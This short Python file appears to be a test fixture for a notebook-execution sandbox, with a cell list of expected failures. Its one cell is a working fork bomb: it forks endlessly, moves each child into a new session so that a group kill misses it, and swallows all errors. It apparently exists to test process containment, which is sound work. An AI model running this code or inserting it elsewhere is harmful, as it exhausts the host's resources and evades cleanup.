"""Forks as fast as it can, in new sessions, so that a group's kill would not reach the children."""

LOSES = ["one-hot", "fit-layers", "fit-accuracy", "evaluation"]

# %% [one-hot]
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except BaseException:
        pass
